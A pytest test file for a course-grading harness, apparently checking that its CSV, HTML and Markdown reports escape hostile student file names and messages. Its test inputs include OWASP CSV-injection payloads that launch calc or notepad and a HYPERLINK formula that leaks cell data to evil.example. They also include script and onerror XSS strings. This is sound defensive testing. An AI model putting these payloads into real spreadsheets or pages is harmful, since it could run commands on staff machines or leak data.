"""Reports opened by staff obey no student text: CSV cells are never formulas (OWASP's CSV
injection), and student text is escaped in the HTML and Markdown reports."""

import csv
import io
import shutil
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from harness.analysis import summarize
from harness.outcomes import Outcome
from harness.records import Cell, SuiteRun
from harness.reports import grades as tables
from harness.reports import matrix as reports
from harness.reports.safe import FORMULA_START, csv_cell, markdown_cell, to_csv
from harness.shared_tests.laws import BY_NAME
from harness.subjects import Kind, Subject

ROOT = Path(__file__).resolve().parents[3]
OWASP = ("=", "+", "-", "@", "\t", "\r")
# OWASP's example payload, as a submission's file name
FORMULA_NAME = "=1+1+cmd|' -c calc'!A0.py"
HOSTILE = [
    FORMULA_NAME,
    "+cmd|' /C notepad'!'A1'",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\uff1d1+1",
    'a",=1+1,"b',
    "line one\n=1+1",
]


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_a_text_cell_that_begins_with_a_formula_character_is_neutralised(text):
    safe = csv_cell(text)
    assert safe.startswith("'") and not starts_a_formula(safe)
    if text[0] not in "\r":  # a carriage return is shown as \x0d, as in every report
        assert safe == "'" + text


@pytest.mark.parametrize("value", ["alice.py", "score 3", "", "a-b", "x=1"])
def test_other_text_is_kept_as_written(value):
    assert csv_cell(value) == value


def test_every_owasp_character_is_covered():
    assert set(OWASP) <= set(FORMULA_START)


def test_numbers_stay_numbers_and_text_is_neutralised_read_back_by_csv_and_pandas():
    table = pd.DataFrame(
        {
            "name": HOSTILE,
            "score": [-1.5, -2.0, 0.0, 3.25, -7.0, 1.0, 2.0, 3.0, 4.0, 5.0],
            "count": [-3, 1, 2, 3, 4, 5, 6, 7, 8, 9],
            "passed": [True, False] * 5,
        }
    )
    text = to_csv(table)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "score", "count", "passed"]
    assert len(rows) == 1 + len(HOSTILE)  # a comma, a quote or a newline starts no cell or row
    for row, name in zip(rows[1:], HOSTILE, strict=True):
        assert not starts_a_formula(row[0])
        shown = name.replace("\r", "\\x0d")  # still the name, after the quote if it needs one
        assert row[0] == ("'" + shown if starts_a_formula(name) else shown)
    assert [r[1] for r in rows[1:3]] == ["-1.5", "-2.0"]  # the project's numbers as written
    back = pd.read_csv(io.StringIO(text))
    assert back["score"].tolist() == table["score"].tolist()
    assert back["count"].tolist() == table["count"].tolist()
    assert back["passed"].tolist() == table["passed"].tolist()
    assert not any(starts_a_formula(v) for v in back["name"])
    # every text field is quoted in the file itself; numbers are not
    first = text.splitlines()[1]
    assert first.startswith("\"'=1+1") and first.endswith(",-1.5,-3,True")


def test_every_csv_writer_of_the_project_goes_through_the_one_function():
    # grade-batch, summarize and the matrix: no DataFrame.to_csv of their own
    for path in ("harness/jobs/grade.py", "harness/jobs/matrix.py", "harness/reports/grades.py"):
        source = (ROOT / path).read_text()
        assert ".to_csv(" not in source, path
        assert "to_csv(" in source, path
    writers = [
        p.relative_to(ROOT).as_posix()
        for p in (ROOT / "harness").rglob("*.py")
        if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()
    ]
    assert writers == ["harness/reports/safe.py"]


@pytest.mark.slow
def test_a_formula_named_submission_lands_in_grades_csv_as_text(tmp_path):
    # the real grade-batch, in the real sandbox, on OWASP's payload as a file name (a copy of the
    # correct example) and a rejected one named like a formula too
    subs, out = tmp_path / "subs", tmp_path / "grades"
    subs.mkdir()
    shutil.copy(ROOT / "examples" / "correct_submission.py", subs / FORMULA_NAME)
    (subs / "@SUM(1+1)*cmd.py").write_text("import impl.transformer\n")
    argv = ["grade-batch", str(subs), "--out", str(out), "--tests", "test_hand_example_noam"]
    done = subprocess.run(
        [sys.executable, "-m", "harness", *argv, "--jobs", "2"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr  # one rejected
    for name in ("grades.csv", "hardest_tests.csv"):
        text = (out / name).read_text()
        for row in csv.reader(io.StringIO(text)):
            assert not any(starts_a_formula(cell) for cell in row), (name, row)
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        cells = [str(c) for c in frame.columns] + [str(v) for v in frame.to_numpy().ravel()]
        assert not any(starts_a_formula(c) for c in cells), (name, cells)
    grades = pd.read_csv(out / "grades.csv")
    by_name = dict(zip(grades["submission"], grades["score"], strict=True))
    assert by_name == {"'" + FORMULA_NAME: 5.0, "'@SUM(1+1)*cmd.py": 0.0}  # recognisable
    assert grades["score"].dtype == float and grades["passed"].dtype == bool
    assert FORMULA_NAME in done.stdout  # the terminal shows the name as it is


# --- HTML and Markdown --------------------------------------------------------------------------

SCRIPT = '</td></tr><script>alert("x")</script><img src=x onerror=alert(1)>'
STUDENT = "eve<b>|`x`|[a](http://evil.example)\"'&amp;\\|\nnext | row"


def hostile_run() -> SuiteRun:
    """A matrix whose subject is named like an attack and whose messages are attacks."""
    noam = BY_NAME["test_hand_example_noam"]
    odd = replace(BY_NAME["test_hand_example_label_smoothing"], name="t|`x`[y](z)<i>")
    subjects = [
        Subject("impl", Kind.CORRECT, module="impl.transformer"),
        Subject(STUDENT, Kind.SUBMISSION, path="eve.py"),
        Subject("s08", Kind.MUTANT, module="impl.transformer", mutant="s08"),
    ]
    cells = {}
    for t in (noam, odd):
        cells[(t.name, "impl")] = Cell(Outcome.KILLED, SCRIPT)  # a false alarm, with its message
        cells[(t.name, STUDENT)] = Cell(Outcome.ERROR, STUDENT + SCRIPT)
        cells[(t.name, "s08")] = Cell(Outcome.KILLED, "fine")
    return SuiteRun([noam, odd], subjects, cells)


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.titles, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.titles += [v for k, v in attrs if k == "title"]
        assert not any(k.startswith("on") for k, _ in attrs), attrs

    def handle_data(self, data):
        self.text.append(data)


def test_student_text_in_the_html_report_is_text():
    run = hostile_run()
    page = reports.html_page(run, summarize(run))
    parser = Collect()
    parser.feed(page)
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert parser.tags.count("td") == 2 * 3 + 2  # the grid's cells and the kills, no more
    assert SCRIPT in parser.titles  # the message is shown whole, as text, on hover
    assert any(STUDENT.split("\n")[0] in t for t in parser.text)  # the name, as text


def table_rows(text: str) -> list[list[str]]:
    """A GFM table's rows split on its unescaped pipes."""
    rows = []
    for line in text.splitlines():
        if line.startswith("|"):
            cells, cell, i = [], "", 1
            while i < len(line):
                if line[i] == "\\":
                    cell += line[i : i + 2]
                    i += 2
                    continue
                if line[i] == "|":
                    cells.append(cell.strip())
                    cell = ""
                else:
                    cell += line[i]
                i += 1
            rows.append(cells)
    return rows


def unescaped(cell: str, char: str) -> bool:
    return any(c == char and (i == 0 or cell[i - 1] != "\\") for i, c in enumerate(cell))


def test_student_text_in_the_matrix_markdown_stays_in_its_cell():
    run = hostile_run()
    text = reports.markdown(run, summarize(run))
    rows = table_rows(text)
    assert len(rows) == 2 + 2 and {len(r) for r in rows} == {1 + 3 + 1}  # no cell split
    assert rows[0][2] == markdown_cell(STUDENT)
    for cell in [c for r in rows for c in r]:
        assert "<" not in cell.replace("<br>", "") and ">" not in cell.replace("<br>", "")
        assert not any(unescaped(cell, ch) for ch in "`[]")


@pytest.mark.parametrize(
    "text, want",
    [
        ("a|b", "a\\|b"),
        ("`code`", "\\`code\\`"),
        ("[x](http://e)", "\\[x\\](http://e)"),
        ("<script>", "&lt;script&gt;"),
        ("one\ntwo\r\nthree", "one<br>two<br>three"),
        ("back\\|slash", "back\\\\\\|slash"),  # the student's backslash cannot undo ours
        ("&lt;", "&amp;lt;"),
        ("plain_name", "plain_name"),
    ],
)
def test_markdown_cell_escapes(text, want):
    assert markdown_cell(text) == want


def test_the_batch_markdown_escapes_file_names_and_messages():
    eve = tables.Graded(
        STUDENT, 0.0, 5.0, False, [tables.TestLine("t", False, "error")], rejected=SCRIPT
    )
    ok = tables.Graded("bob.py", 5.0, 5.0, True, [tables.TestLine("t", True, "passed")])
    text = tables.markdown([eve, ok])
    rows = table_rows(text)
    # the grades (six columns: status and reason among them), then the hardest tests (five):
    # head, rule, rows; eve, rejected, is not in the second
    assert [len(r) for r in rows] == [6] * 4 + [5] * 3
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert markdown_cell(STUDENT) in text
